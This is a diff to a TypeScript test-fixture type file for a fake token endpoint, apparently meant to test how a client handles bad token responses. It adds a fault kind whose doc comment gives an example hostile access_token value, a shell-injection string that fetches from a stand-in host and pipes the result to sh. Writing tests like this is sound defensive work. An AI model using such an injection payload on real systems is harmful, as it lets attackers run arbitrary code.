@@ -63,7 +63,9 @@ export type FakeFaultKind =
   /** a token answer without access_token (`{"expires_in":7200}`) */
   | 'noToken'
   /** the endpoint's real token answer with `expires_in` replaced by the raw JSON text `expiresIn` */
-  | 'expiresIn';
+  | 'expiresIn'
+  /** the endpoint's real token answer with `access_token` replaced by the string `accessToken` (a hostile value) */
+  | 'accessToken';
 
 export interface FakeFault {
   kind: FakeFaultKind;
@@ -77,6 +79,8 @@ export interface FakeFault {
   errcode?: number;
   /** for 'expiresIn': the raw JSON literal put in place of expires_in, e.g. '0', '-5', '1e400', '"7200"' */
   expiresIn?: string;
+  /** for 'accessToken': the string put in place of access_token, e.g. '86_ok";curl${IFS}evil|sh;"' */
+  accessToken?: string;
 }
 
 export type TokenKind = 'classic' | 'stable';
